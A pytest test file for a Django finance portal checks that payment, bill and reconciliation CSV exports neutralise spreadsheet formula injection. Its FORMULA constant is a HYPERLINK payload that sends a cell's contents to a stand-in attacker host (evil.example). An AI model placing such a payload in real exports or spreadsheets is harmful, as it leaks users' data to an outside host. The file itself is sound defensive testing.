"""Finance's CSV downloads never carry a formula a spreadsheet would run (OWASP CSV injection)."""

import csv
import io
from datetime import date

import pytest

from django.urls import reverse

from payments.reconciliation import Line, Report, report_csv
from payments.services import bill_payment_create
from tests.accounts.signin import sign_in
from tests.portal.cases.factories import staff_in

from .factories import bill_make

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("https://evil.example/?leak="&A2,"Click for details")'


@pytest.fixture
def finance(web):
    user = staff_in("Finance")
    sign_in(web, user)
    return user


def _rows(response) -> list[dict[str, str]]:
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.DictReader(io.StringIO(body.decode("utf-8-sig"))))


def test_the_payments_export_neutralises_a_formula_in_a_bill_description(web, finance):
    bill = bill_make(description=FORMULA, payer_name="@SUM(1+1)")
    payment = bill_payment_create(bill=bill)
    response = web.get(reverse("finance_payments:index"), {"export": "csv"})
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    row = next(r for r in _rows(response) if r["Reference"] == payment.reference)
    assert row["Description"] == f"'{FORMULA} (bill INV-204518)"
    assert row["Amount pence"] == "12050"  # numbers stay numbers

    rows = _rows(web.get(reverse("finance_bills:index"), {"export": "csv"}))
    assert (rows[0]["Description"], rows[0]["Payer name"]) == (f"'{FORMULA}", "'@SUM(1+1)")


def test_the_reconciliation_csv_neutralises_formulas():
    report = Report(day=date(2026, 3, 31), provider="stripe")
    report.lines.append(Line("payment", "=1+1", "-ch_1", None, 100, "missing_locally", "+note"))
    row = next(csv.DictReader(io.StringIO(report_csv(report))))
    assert (row["payment_reference"], row["provider_id"], row["note"]) == ("'=1+1", "'-ch_1", "'+note")
